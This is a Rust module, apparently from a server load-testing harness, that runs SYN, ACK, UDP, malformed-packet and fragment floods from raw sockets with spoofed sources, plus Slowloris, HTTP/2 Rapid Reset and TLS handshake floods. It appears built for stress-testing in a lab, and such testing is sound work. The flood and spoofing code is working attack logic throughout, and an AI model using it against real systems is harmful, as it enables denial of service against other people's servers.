//! The attacks: raw packets from a thread, or connections that misbehave from tasks.

use crate::client::endpoint::Endpoint;
use crate::client::h2;
use crate::engine::Engine;
use crate::flood::LASTS_MAX;
use crate::load::random::Random;
use crate::packet::{Kind as Shape, build};
use crate::scenario::{Attack, Kind, per_second};
use crate::siege::field::CLIENT;
use anyhow::{Context, Result};
use bytes::Bytes;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::cell::Cell;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::rc::Rc;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

type Flags<'a> = (&'a Arc<AtomicBool>, &'a Arc<AtomicU64>);

/// In words, for the report.
pub(crate) fn describe(attack: &Attack) -> String {
    let is_real = attack.sources.value == 1 && attack.kind.is_packets();
    let from = if is_real { " from a real address" } else { "" };
    format!("{} at {:.0}/s{from}", attack.kind.as_str(), per_second(&attack.rate))
}

/// Begins it; it ends when the first flag is set, and counts in the second.
pub(crate) fn begin(
    attack: &Attack,
    (target, tls): (SocketAddr, Endpoint),
    engine: &Engine,
    (stop, sent): Flags<'_>,
) -> Result<Option<JoinHandle<Result<()>>>> {
    let rate = per_second(&attack.rate);
    let (stop, sent) = (Arc::clone(stop), Arc::clone(sent));
    let shape = match attack.kind.value {
        Kind::Syn => Shape::Syn,
        Kind::Ack => Shape::Ack,
        Kind::Udp => Shape::Udp,
        Kind::Malformed => Shape::Malformed,
        Kind::Fragments => Shape::Fragment,
        Kind::SlowLoris | Kind::RapidReset | Kind::Handshake => {
            let kind = attack.kind.value;
            let endpoint = if kind == Kind::Handshake { tls } else { Endpoint::new(target, None, 0) };
            match kind {
                Kind::RapidReset => engine.spawn(move || rapid_reset(endpoint, rate, (stop, sent))),
                _ => engine.spawn(move || misbehave(kind, endpoint, rate, (stop, sent))),
            }
            return Ok(None);
        }
    };
    let SocketAddr::V4(target) = target else { return Ok(None) };
    let sources = attack.sources.value;
    let body = move || flood(shape, target, (rate, sources), (&stop, &sent));
    Ok(Some(std::thread::Builder::new().name("flood".into()).spawn(body).context("cannot start a thread")?))
}

/// Packets between two looks at the clock.
const BURST: u32 = 16;

fn flood(shape: Shape, to: SocketAddrV4, (rate, sources): (f64, u32), (stop, sent): Flags<'_>) -> Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))
        .context("a raw socket needs root or CAP_NET_RAW")?;
    let target = SockAddr::from(SocketAddrV4::new(*to.ip(), 0));
    let (begin, mut random, mut count) = (Instant::now(), Random::new(3), 0.0);
    while !stop.load(Relaxed) && begin.elapsed() < LASTS_MAX {
        for _ in 0..BURST {
            let drawn = random.next();
            let number = drawn % u64::from(sources);
            let from = if sources == 1 { own(drawn) } else { source(number, drawn) };
            let packet = build(shape, from, to, u32::try_from(drawn >> 32).unwrap_or(0));
            // What this host refuses to send was not offered.
            sent.fetch_add(u64::from(socket.send_to(&packet, &target).is_ok()), Relaxed);
        }
        count += f64::from(BURST);
        let due = begin + Duration::from_secs_f64(count / rate);
        if let Some(early) = due.checked_duration_since(Instant::now()) {
            std::thread::park_timeout(early);
        }
    }
    Ok(())
}

/// Sources lie in 198.18.0.0/15, which RFC 2544 sets aside for benchmarks.
fn source(number: u64, drawn: u64) -> SocketAddrV4 {
    let [.., a, b, c] = number.to_be_bytes();
    SocketAddrV4::new(Ipv4Addr::new(198, 18 | (a & 1), b, c), port(drawn))
}

/// The address that the attacker really has: its own kernel answers what comes back.
fn own(drawn: u64) -> SocketAddrV4 {
    SocketAddrV4::new(CLIENT, port(drawn))
}

fn port(drawn: u64) -> u16 {
    let [high, low, ..] = drawn.to_be_bytes();
    u16::from_be_bytes([high, low]) | 1024
}

/// Connections under way at once.
const OPEN_MAX: usize = 900;

/// Opens connections at the rate, each of which misbehaves in its way.
async fn misbehave(
    kind: Kind,
    endpoint: Endpoint,
    rate: f64,
    (stop, sent): (Arc<AtomicBool>, Arc<AtomicU64>),
) {
    let endpoint = Rc::new(endpoint);
    let open = Rc::new(Cell::new(0_usize));
    let (begin, mut count) = (tokio::time::Instant::now(), 0.0);
    while !stop.load(Relaxed) && begin.elapsed() < LASTS_MAX {
        count += 1.0;
        tokio::time::sleep_until(begin + Duration::from_secs_f64(count / rate)).await;
        if open.get() >= OPEN_MAX {
            continue;
        }
        open.set(open.get() + 1);
        let (endpoint, open) = (Rc::clone(&endpoint), Rc::clone(&open));
        let (stop, sent) = (Arc::clone(&stop), Arc::clone(&sent));
        tokio_uring::spawn(async move {
            // An attacker does not care how its connections end.
            match kind {
                Kind::SlowLoris => slow_loris(&endpoint, &stop, &sent).await,
                _ => handshake(&endpoint, &sent).await,
            }
            open.set(open.get() - 1);
        });
    }
}

async fn slow_loris(endpoint: &Endpoint, stop: &AtomicBool, sent: &AtomicU64) {
    let Ok(mut wire) = endpoint.open().await else { return };
    sent.fetch_add(1, Relaxed);
    if wire.send(Bytes::from_static(b"GET / HTTP/1.1\r\nHost: load.test\r\n")).await.is_err() {
        return;
    }
    while !stop.load(Relaxed) {
        tokio::time::sleep(Duration::from_millis(500)).await;
        if wire.send(Bytes::from_static(b"X-A: b\r\n")).await.is_err() {
            return;
        }
    }
}

/// Streams at the rate, each reset at once, on a connection that is opened anew when the server has had enough of it.
async fn rapid_reset(endpoint: Endpoint, rate: f64, (stop, sent): (Arc<AtomicBool>, Arc<AtomicU64>)) {
    let mut open = None;
    let (begin, mut count) = (tokio::time::Instant::now(), 0.0);
    while !stop.load(Relaxed) && begin.elapsed() < LASTS_MAX {
        count += 1.0;
        tokio::time::sleep_until(begin + Duration::from_secs_f64(count / rate)).await;
        let client = match open.take() {
            Some(client) => Ok(client),
            None => h2::Client::open(&endpoint).await,
        };
        let Ok(mut client) = client else { continue };
        if client.open_and_reset().await.is_ok() {
            sent.fetch_add(1, Relaxed);
            open = Some(client);
        }
        // What was written leaves when the connection's own task has its turn.
        tokio::task::yield_now().await;
    }
}

/// A hello that nobody follows up: the server has done its share of the work when it answers.
async fn handshake(endpoint: &Endpoint, sent: &AtomicU64) {
    if endpoint.begin_handshake().await.is_ok() {
        sent.fetch_add(1, Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn sources_are_invented_or_the_own_address() {
        let mut random = Random::new(5);
        let drawn: Vec<u64> = (0..2000).map(|_| random.next()).collect();
        let invented: HashSet<Ipv4Addr> =
            drawn.iter().map(|drawn| *source(drawn % 500, *drawn).ip()).collect();
        assert!(invented.len() > 450 && invented.len() <= 500, "{}", invented.len());
        assert!(invented.iter().all(|ip| ip.octets()[0] == 198 && ip.octets()[1] & 0xfe == 18));
        let real: HashSet<SocketAddrV4> = drawn.iter().map(|drawn| own(*drawn)).collect();
        assert!(real.len() > 1000, "ports differ: {}", real.len());
        assert!(real.iter().all(|from| *from.ip() == CLIENT && from.port() >= 1024));
    }
}
